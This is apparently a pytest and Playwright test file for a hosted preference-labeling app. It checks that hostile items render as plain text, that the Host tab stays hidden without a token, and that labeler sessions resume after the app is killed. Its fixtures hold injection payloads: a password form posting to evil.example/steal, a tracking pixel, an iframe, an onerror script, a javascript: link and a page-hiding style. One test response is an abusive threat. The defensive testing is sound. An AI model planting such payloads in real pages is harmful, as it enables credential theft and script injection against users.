"""The labeling app hosted for a room, in Chromium: hostile items render as text, the Host tab
stays hidden until the token, and labelers' sessions survive a kill -9 of the app (issue #14)."""
from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest
from net_helpers import port_open
from playwright.sync_api import expect
from prefs_helpers import free_port, load_pairs
from test_prefs_room import HOST, hosted_app, room_code

REPO = Path(__file__).resolve().parents[1]
HOSTILE_PROMPT = ("<form action='https://evil.example/steal'><input type='password' name='pw'>"
                  "<button>Log in</button></form> ${7*7} ![pixel](https://evil.example/p.png)")
HOSTILE_A = "<iframe src='https://evil.example'></iframe><img src=x onerror=alert(1)>[click](javascript:alert(1))"
HOSTILE_B = "<style>body{display:none}</style><b>bold</b> **markdown bold**"
TAGS = ("form", "input", "button", "iframe", "img", "style", "a", "b", "strong")


def _join(page, url, name, code):
    page.goto(f"{url}?code={code}")
    expect(page.locator("#join-code input")).to_have_value(code, timeout=30000)  # filled in from the link
    page.locator("#join-name").get_by_role("textbox").fill(name)
    page.locator("#btn-join").click()
    page.get_by_text(f"{name} · 0 / 20 labelled").wait_for(timeout=30000)


@pytest.mark.browser
def test_hostile_item_renders_as_text_and_the_host_tab_needs_the_token(browser, tmp_path, monkeypatch):
    with hosted_app(tmp_path, monkeypatch, n_items=0) as (_app, url):
        from core.preferences.importing import import_file

        path = tmp_path / "hostile.jsonl"
        path.write_text(json.dumps({"id": "h", "prompt": HOSTILE_PROMPT, "response_a": HOSTILE_A,
                                    "response_b": HOSTILE_B, "model_a": "m1", "model_b": "m2"}) + "\n"
                        + json.dumps({"id": "h", "prompt": HOSTILE_PROMPT, "response_a": HOSTILE_A,  # held back
                                      "response_b": "You are a worthless idiot and I will kill you.",
                                      "model_a": "m1", "model_b": "m3"}) + "\n")
        assert import_file(path).flagged == 1
        ctx = browser.new_context(viewport={"width": 1280, "height": 900})
        try:
            page = ctx.new_page()
            page.goto(url)
            page.locator("#btn-join").wait_for(timeout=30000)
            assert page.get_by_role("tab", name="Host").count() == 0  # hidden from labelers
            code = room_code()
            _join(page, url, "ann", code)  # the join link filled the code in
            assert "recovery code" in page.locator("#prefs-recovery").inner_text()
            boxes = {"#prefs-prompt": HOSTILE_PROMPT, "#prefs-left": None, "#prefs-right": None}
            shown = {sel: page.locator(sel).inner_text().strip() for sel in boxes}
            assert shown["#prefs-prompt"] == HOSTILE_PROMPT  # every character, literally
            assert {shown["#prefs-left"], shown["#prefs-right"]} == {HOSTILE_A, HOSTILE_B}
            for sel in boxes:
                for tag in TAGS:
                    assert page.locator(f"{sel} {tag}").count() == 0, (sel, tag)
            assert page.locator("body").is_visible()  # the <style> did not hide the page

            # the host: token below the page, then the Host tab appears with the join code and QR code
            page.locator("#host-signin").click()
            page.locator("#host-token").locator("input").fill("guess")
            page.locator("#btn-host-open").click()
            page.get_by_text("wrong host token").first.wait_for(timeout=30000)
            assert page.get_by_role("tab", name="Host").count() == 0
            page.locator("#host-token").locator("input").fill(HOST)
            page.locator("#btn-host-open").click()
            page.get_by_role("tab", name="Host").wait_for(timeout=30000)
            page.locator("#host-join-code").wait_for(timeout=30000)
            assert page.locator("#host-join-code").inner_text() == code
            assert page.locator("#host-join-link").get_attribute("href") == f"{url}?code={code}"
            assert page.locator("#host-join-panel svg").count() == 1
            # the review queue shows the held-back hostile item as text too
            expect(page.locator("#host-review")).to_contain_text("worthless idiot", timeout=30000)
            assert "<form action=" in page.locator("#host-review").text_content()
            for tag in ("form", "iframe", "img"):
                assert page.locator(f"#host-review {tag}").count() == 0, tag
        finally:
            ctx.close()


def _start(env) -> subprocess.Popen:
    proc = subprocess.Popen([sys.executable, "apps/labeling/app.py"], cwd=REPO, env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    deadline = time.time() + 120
    while not port_open(int(env["GRADIO_SERVER_PORT"])):
        assert proc.poll() is None and time.time() < deadline, "the labeling app did not start"
        time.sleep(0.5)
    return proc


@pytest.mark.slow
@pytest.mark.browser
def test_labelers_resume_after_the_app_is_killed(browser, tmp_path, data_dir):
    """Three labelers label; the app is killed (-9) and restarted; every browser resumes as the
    same labeler with the same count, and nobody is served an item twice."""
    from sqlalchemy import func, select

    from core.preferences.db import dispose_all, transaction
    from core.preferences.schema import Label, Labeler

    load_pairs(tmp_path, 12)
    dispose_all()
    port = free_port()
    env = {**os.environ, "GENAI_DATA_DIR": str(data_dir), "GENAI_HOSTED": "true", "GENAI_HOST_TOKEN": HOST,
           "GRADIO_SERVER_NAME": "127.0.0.1", "GRADIO_SERVER_PORT": str(port), "GRADIO_ANALYTICS_ENABLED": "False"}
    env.pop("GENAI_PREFS_DATABASE_URL", None)
    url = f"http://127.0.0.1:{port}/"
    proc = _start(env)
    names = ("ann", "bob", "cy")
    contexts = [browser.new_context(viewport={"width": 1280, "height": 900}) for _ in names]
    seen = {n: [] for n in names}
    try:
        from core.preferences.codes import generated_join_code

        code = generated_join_code(data_dir)
        pages = [ctx.new_page() for ctx in contexts]
        for page, name in zip(pages, names):
            _join(page, url, name, code)
            for n in (1, 2):
                seen[name].append(page.locator("#prefs-prompt").inner_text())
                page.locator("#btn-tie").click()
                page.get_by_text(f"{name} · {n} / 20 labelled").wait_for(timeout=30000)
        open_before = {name: page.locator("#prefs-prompt").inner_text() for page, name in zip(pages, names)}
        # the app's own upload limit (GENAI_MAX_FILE_MB, 10 MB by default): a 60 MB upload is refused
        r = httpx.post(url + "gradio_api/upload", files={"files": ("big.jsonl", b"x" * (11 * 1024 * 1024))},
                       timeout=60)
        assert r.status_code == 413

        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=30)
        proc = _start(env)

        for page, name in zip(pages, names):
            page.reload()
            page.get_by_text(f"{name} · 2 / 20 labelled").wait_for(timeout=30000)
            assert not page.locator("#btn-join").is_visible()
            assert page.locator("#prefs-prompt").inner_text() == open_before[name]  # the same open item
            for n in (3, 4):
                seen[name].append(page.locator("#prefs-prompt").inner_text())
                page.locator("#btn-tie").click()
                page.get_by_text(f"{name} · {n} / 20 labelled").wait_for(timeout=30000)
        for name in names:
            assert len(set(seen[name])) == 4, seen[name]  # never served an item twice
        with transaction() as s:
            per = dict(s.execute(select(Labeler.name, func.count(Label.id)).join(Label, Label.labeler_id == Labeler.id)
                                 .group_by(Labeler.name)).all())
            assert per == {n: 4 for n in names}  # the same three identities, nobody joined anew
            assert s.scalar(select(func.count(Labeler.id))) == 3
    finally:
        for ctx in contexts:
            ctx.close()
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait(timeout=30)
